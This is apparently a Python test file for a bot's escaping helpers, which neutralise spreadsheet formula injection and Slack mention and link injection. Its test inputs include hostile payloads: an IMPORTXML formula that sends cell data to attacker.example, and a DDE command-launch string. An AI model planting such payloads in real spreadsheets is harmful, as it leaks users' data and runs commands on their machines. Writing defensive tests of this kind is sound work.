from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bot.escape import SHEET_CELL_MAX, sheet_cell, sheet_cell_text, slack_text


@pytest.mark.parametrize("text", [
    '=IMPORTXML("http://attacker.example/?"&A2,"//a")',
    "+1 555 0100",
    "-cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
])
def test_formula_looking_text_gets_a_quote_prefix(text: str) -> None:
    assert sheet_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Hello =world", "<abc@mail.example>", "", "'quoted", " =leading space"])
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert sheet_cell(text) == text


def test_non_text_values() -> None:
    assert sheet_cell(None) == ""
    assert sheet_cell(-0.5) == "-0.5"  # numbers cannot be formulas
    assert sheet_cell(3) == "3"
    assert sheet_cell(True) == "True"


def test_overlong_cell_is_cut_to_the_sheets_limit() -> None:
    cell = sheet_cell("x" * (SHEET_CELL_MAX + 10))
    assert len(cell) == SHEET_CELL_MAX
    assert cell.endswith("…")
    assert sheet_cell("x" * SHEET_CELL_MAX) == "x" * SHEET_CELL_MAX  # exactly at the limit: kept whole


@pytest.mark.parametrize(("text", "cell"), [
    ("'=", "''="), ("'=SUM(A1)", "''=SUM(A1)"), ("'+49", "''+49"), ("''-1", "'''-1"),
    ("'", "'"), ("'quoted", "'quoted"), ("=1", "'=1"), ("X=Y", "X=Y"), ("X'=Y", "X'=Y"),
])
def test_text_that_starts_with_quotes_reads_back_as_it_was(text: str, cell: str) -> None:
    assert sheet_cell(text) == cell
    assert sheet_cell_text(cell) == text


@given(st.text())
@example("'=")
@example("'=SUM(A1)")
@example("'+49")
def test_sheet_cell_never_starts_like_a_formula_and_round_trips(text: str) -> None:
    cell = sheet_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    if len(text) < SHEET_CELL_MAX - 1:
        assert sheet_cell_text(cell) == text


def test_slack_text_neutralises_mentions_and_links() -> None:
    out = slack_text("<!channel> URGENT & <@U123> <https://evil.example|click>")
    assert out == "&lt;!channel&gt; URGENT &amp; &lt;@U123&gt; &lt;https://evil.example|click&gt;"


def test_slack_text_escapes_ampersand_first() -> None:
    assert slack_text("&lt;") == "&amp;lt;"


def test_slack_text_strips_control_characters_but_keeps_newlines() -> None:
    assert slack_text("a\x00b\x1bc\u202ed\ne\tf\r") == "abcd\ne\tf"
    assert slack_text(None) == ""


@given(st.text())
def test_slack_text_never_contains_angle_brackets_and_decodes_back(text: str) -> None:
    out = slack_text(text)
    assert "<" not in out and ">" not in out
    assert re.sub(r"&(?!amp;|lt;|gt;)", "", out) == out  # every & starts an entity
    stripped = re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", "", text)
    assert out.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == stripped
